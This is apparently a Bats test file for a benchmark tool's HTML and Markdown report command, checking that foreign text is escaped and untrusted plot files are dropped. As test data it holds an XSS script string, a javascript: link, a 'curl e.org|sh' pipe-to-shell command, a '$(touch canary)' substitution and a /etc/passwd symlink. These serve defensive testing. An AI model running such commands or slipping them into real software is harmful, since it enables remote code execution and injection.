# `report`: a run as one HTML page, and as Markdown.
load common

REFERENCE=$BATS_TEST_DIRNAME/../../results/reference/cpu-2-cores
PICTURES=no

# parsed PAGE FOLDER: reads the page as a browser would, and fails where a tag is left open, something is loaded, a picture differs from its
# file; prints rows a table and texts.
parsed() {
    python3 - "$1" "$2" <<'PYTHON'
import base64, glob, html.parser, os, sys

class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.open, self.pictures, self.rows, self.section, self.texts, self.scripts = [], [], {}, "", [], 0
    def handle_starttag(self, tag, attributes):
        attributes = dict(attributes)
        for name, value in attributes.items():
            assert name not in ("href", "onclick", "onload", "onerror"), (tag, name)
            assert name != "src" or value.startswith("data:image/svg+xml;base64,"), value[:60]
        if tag == "img":
            assert attributes["alt"].endswith("."), attributes["alt"] # a sentence, and no file's name
            self.pictures.append(base64.b64decode(attributes["src"].split(",")[1], validate=True))
        if tag == "section": self.section = attributes["id"]
        if tag == "tr": self.rows[self.section] = self.rows.get(self.section, 0) + 1
        if tag == "script": self.scripts += 1
        if tag not in ("meta", "img"): self.open.append(tag)
    def handle_endtag(self, tag):
        assert self.open and self.open.pop() == tag, tag
    def handle_data(self, text):
        self.texts.append(text)

text = open(sys.argv[1], encoding="utf-8").read()
page = Page()
page.feed(text)
assert not page.open and page.scripts == 1, (page.open, page.scripts)
assert len(text) < 2 << 20 and "http" not in text, len(text)
assert sorted(page.pictures) == sorted(open(path, "rb").read() for path in glob.glob(sys.argv[2] + "/plots/*.svg"))
assert not any(part.lstrip().startswith(('{"', '["')) for part in page.texts), "JSON for a reader"
print(page.rows)
print("\n".join(part.strip() for part in page.texts if part.strip()))
PYTHON
}

@test "a page with all inside: pictures to the byte, a row per trial, the figures of the table" {
    cp -r "$REFERENCE" r
    run --separate-stderr "$EVENLOAD" report r
    [[ $status -eq 0 && $output == "r/report.html "* && -z $stderr && -z $(find r -name '*.tmp.*') ]] || show
    parsed r/report.html r >page || show
    local n devices
    n=$(json r/results.json 'len(d["trials"])')
    devices=$(json r/results.json 'sum(len(t["per_device"]) for t in d["trials"])')
    [[ $(head -1 page) == "{'throughput': $((n + 1)), 'memory': $((devices + 1)), "*"'commands': $((n + 1)), "* ]] || { head -1 page && show; }
    grep -qx "$(json r/results.json '"{:,.0f}".format(d["trials"][0]["throughput"]["samples_per_s"])')" page || show
    grep -qx "$(json r/results.json 'd["trials"][0]["command"]')" page || show
    grep -q "^In dp the first device (cpu:0) peaks at .* MiB more, made up of " page || show
    grep -qx "9 trials: 9 valid" page || show
}

@test "foreign text is text, in HTML and in Markdown" {
    mkdir r
    kept_record >kept.json
    python3 - kept.json >r/results.json <<'PYTHON'
import json, sys
d = json.load(open(sys.argv[1]))
evil = "<script>alert('1')</script>\"&|`x"
for t in d["trials"]:
    t["command"] = t["model"] = evil
    t["warnings"], t["warning_rules"] = [evil], ["x"]
    for device in t["per_device"]: device["device"] = evil
d["environment"]["hostname"] = d["environment"]["</style>"] = evil
json.dump(d, sys.stdout)
PYTHON
    run --separate-stderr "$EVENLOAD" report r --markdown short.md
    [[ $status -eq 0 && $output == *$'\n'"short.md" ]] || show
    parsed r/report.html r >page || show
    grep -qxF "<script>alert('1')</script>\"&|\`x" page || { cat page && show; }
    ! grep -q '<' short.md || show
}

# hostile FOLDER: the kept record, whose texts are Markdown that would load, link, mention, end the table or the list, and whose command is a trap.
hostile() {
    mkdir "$1"
    kept_record >kept.json
    python3 - kept.json >"$1/results.json" <<'PYTHON'
import json, sys
d = json.load(open(sys.argv[1]))
evil = "![p](http://e.org/p.png) [l](javascript:x) <img src=x onerror=y> @user #1 www.e.org https://e.org `c` | \\a $x$ ~~s~~ __b__ *i* &lt; \n\n# h\n```\u202e"
for k, t in enumerate(d["trials"]):
    t["command"] = ["evenload run --mode single; curl e.org|sh", "evenload run --mode single --save /root/.bashrc", "evenload run --data '$(touch canary)' --mode single --model mlp"][k % 3]
    t["model"] = t["mode"] = t["reason"] = evil
    t["warnings"], t["warning_rules"] = ["- " + evil], ["x"]
    for device in t["per_device"]: device["device"] = evil
d["trials"].append(dict(d["trials"][0], status="failed"))
json.dump(d, sys.stdout)
PYTHON
}

@test "hostile Markdown is text: nothing is loaded, linked, mentioned or begun" {
    hostile r
    run --separate-stderr "$EVENLOAD" report r --markdown short.md
    [[ $status -eq 0 ]] || show
    python3 - <<'PYTHON' || { cat short.md && show; }
import re
text = open("short.md", encoding="utf-8").read()
lines = text.split("\n")
rows, items = [l for l in lines if l.startswith("| ")], [l for l in lines if l.startswith("- ")]
assert len(rows) > 3 and len(items) > 2, lines
assert all(re.match(r"$|### evenload: |\d+ trials|- |\| |\|--", l) for l in lines), lines
pipes = {len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) for row in rows}
assert len(pipes) == 1, pipes
for foreign in items + [lines[0][4:]] + [c for row in rows[1:] for c in re.split(r"(?<!\\)\|", row)]:
    left = re.sub(r"\\[!-/:-@\[-`{-~]|&(lt|gt|amp);", "", foreign)
    assert not re.search(r"[\[\]()!|`~$@#<>&*_\\]|://|www\.|^- -", left), (foreign, left)
assert not re.search(r"[@#][0-9A-Za-z]", text), text
PYTHON
}

@test "the page's commands are of run, made from options, whatever the record has" {
    hostile r
    "$EVENLOAD" report r >/dev/null
    ! grep -q 'curl\|bashrc' r/report.html || show
    ! LC_ALL=C grep -qP '\xe2\x80\xae' r/report.html || show
    grep -qF "<td class=\"left\">evenload run --mode single --model mlp --batch 64 --data '\$(touch canary)'</td>" r/report.html || show
    [[ $(grep -c 'none: what the record names is no command that trains' r/report.html) -ge 2 ]] || show
}

@test "pictures that are no SVG of the folder's own are left out, and nothing is waited for" {
    cp -r "$REFERENCE" r
    ln -sf /etc/passwd r/plots/memory.svg
    rm r/plots/throughput.svg && mkfifo r/plots/throughput.svg
    echo '<html><script>alert(1)</script></html>' >r/plots/step.svg
    ln -sf "$REFERENCE/plots/imbalance.svg" r/plots/imbalance.svg # a link, if to a picture
    { cat r/plots/utilization.svg && head -c 3000000 /dev/zero | tr '\0' ' '; } >large && mv large r/plots/utilization.svg
    run --separate-stderr timeout 120 "$EVENLOAD" report r
    [[ $status -eq 0 ]] || show
    [[ $(grep -c 'Left out: it is no regular file' r/report.html) -eq 3 && $(grep -c 'Left out: it is no SVG' r/report.html) -eq 1 ]] || show
    [[ $(grep -c 'Too large for this page' r/report.html) -eq 1 && $(grep -c 'alt="Memory of the first device ' r/report.html) -eq 1 ]] || show
    rm r/plots/{memory,throughput,step,imbalance,utilization}.svg
    parsed r/report.html r >/dev/null || show
}

@test "Markdown for a pull request: a row per trial; a summary that others write to is appended to" {
    cp -r "$REFERENCE" r
    echo before >summary.md
    GITHUB_STEP_SUMMARY=summary.md "$EVENLOAD" report r --markdown summary.md >/dev/null
    [[ $(head -2 summary.md) == $'before\n### evenload: textcnn, f32, momentum, 2 CPU cores' ]] || show
    [[ $(grep -c '^| \(single\|dp\|ddp\) |' summary.md) -eq 9 && $(grep -c '^- ' summary.md) -eq 3 ]] || { cat summary.md && show; }
}

@test "what is no run, and a folder that cannot be written" {
    refuses "report: which run? give its folder" "$EVENLOAD" report
    mkdir empty
    refuses "empty/results.json: No such file" "$EVENLOAD" report empty
    echo '{}' >empty/comm.json
    refuses "empty/comm.json is nothing that 'evenload comm' of this version wrote" "$EVENLOAD" report empty
    cp -r "$REFERENCE" r
    mkdir r/report.html
    refuses "r/report.html could not be written: Is a directory" "$EVENLOAD" report r
    rmdir r/report.html
    run --separate-stderr "$EVENLOAD" report r --markdown no/such.md
    [[ $status -eq 2 && $stderr == "evenload: no/such.md could not be written: "* && -s r/report.html ]] || show
}

@test "a run without pictures has its tables" {
    mkdir r && kept_record >r/results.json
    run --separate-stderr "$EVENLOAD" report r
    [[ $status -eq 0 && $output == *"gnuplot is not installed"* ]] || show
    rm -rf r/plots
    parsed r/report.html r >/dev/null || show
}

# What a browser makes of it: no error, tables that sort, nothing wider than the window but what scrolls in itself.
@test "in a browser, 390 and 1280 pixels wide" {
    [[ -n ${EVENLOAD_LONG:-} ]] || skip "starts a browser: --long"
    command -v chromium >/dev/null || skip "no chromium (apt install chromium)"
    local width
    cp -r "$REFERENCE" r
    "$EVENLOAD" report r >/dev/null
    sed 's|<style>|<script>const errors = []; addEventListener("error", (e) => errors.push(e.message));</script>\n&|' r/report.html >page.html
    cat >>page.html <<'HTML'
<script>
const table = document.querySelector("#throughput table"), column = (at) => [...table.tBodies[0].rows].map((row) => parseFloat(row.cells[at].textContent.replace(/,/g, "")));
const sorted = (list, sign) => list.every((value, i) => i === 0 || sign * (value - list[i - 1]) >= 0);
const press = (at) => table.querySelectorAll("thead button")[at].click();
press(2); const up = sorted(column(2), 1); press(2); const down = sorted(column(2), -1);
const frame = document.createElement("iframe"); frame.style.cssText = "border:0;height:900px;width:" + location.hash.slice(1) + "px";
const copy = document.documentElement.cloneNode(true); for (const script of copy.querySelectorAll("script")) script.remove();
frame.srcdoc = copy.outerHTML;
frame.onload = () => { const root = frame.contentDocument.documentElement; document.title = [errors.length, up, down, root.scrollWidth <= root.clientWidth].join(" "); };
document.body.append(frame);
</script>
HTML
    for width in 390 1280; do
        timeout 60 chromium --headless --no-sandbox --disable-gpu --window-size=1400,900 --virtual-time-budget=5000 --dump-dom "file://$PWD/page.html#$width" >dom 2>log || { cat log; show; }
        grep -q "<title>0 true true true</title>" dom || { grep -o '<title>.*</title>' dom && show; }
    done
}

@test "a folder of explain has its waterfall and its tables on a page" {
    local kept=$BATS_TEST_DIRNAME/../../results/reference
    cp -r "$kept/explain-mlp" e
    run --separate-stderr "$EVENLOAD" report e
    [[ $status -eq 0 && $output == "e/report.html "* && -z $stderr ]] || show
    parsed e/report.html e >page || show
    grep -q "^What makes a mode slower than ddp, cause by cause" page && grep -q "^replicas *2.52 *0.11 - 4.93" page || { cat page && false; }
    "$EVENLOAD" explain "$kept/cpu-2-cores:dp:64" "$kept/cpu-2-cores:ddp:64" --out two >/dev/null
    run --separate-stderr "$EVENLOAD" report two --markdown two.md
    [[ $status -eq 0 ]] || show
    grep -q "From A to B: textcnn, batch 64" two/report.html && grep -q "^compute " two.md
}

# What each command prints, and its figures, on a page that needs nothing beside it.
@test "folders of comm, regress and watch have pages too" {
    local folder
    "$EVENLOAD" comm all_reduce --devices 2 -e 1K --out comm >comm.txt
    "$EVENLOAD" regress --ab 'echo a 1.0 s; echo b 5 MiB' 'echo a 1.1 s; echo b 5 MiB' --blocks 3 --out regress >regress.txt 2>err || [[ $? == 3 ]]
    "$EVENLOAD" watch --no-plot --out watch -- true 2>watch.txt
    for folder in comm regress watch; do
        run --separate-stderr "$EVENLOAD" report "$folder" --markdown "$folder.md"
        [[ $status -eq 0 && $output == *"$folder/report.html "*"$folder.md" && -z $stderr ]] || show
        parsed "$folder/report.html" "$folder" >page || show
        # each line of the table and of the sentences is what the command printed
        sed -n '/^```$/,/^```$/p' "$folder.md" | sed '1d;$d' >printed.txt
        [[ -s printed.txt ]] && ! grep -vxFf "$folder.txt" printed.txt || { echo "$folder" && show; }
    done
    grep -q "^Inconclusive: 1 of 2 cells" regress.md && grep -q "^Exit status 0" watch.md
    grep -q "all data were right" comm/report.html
}
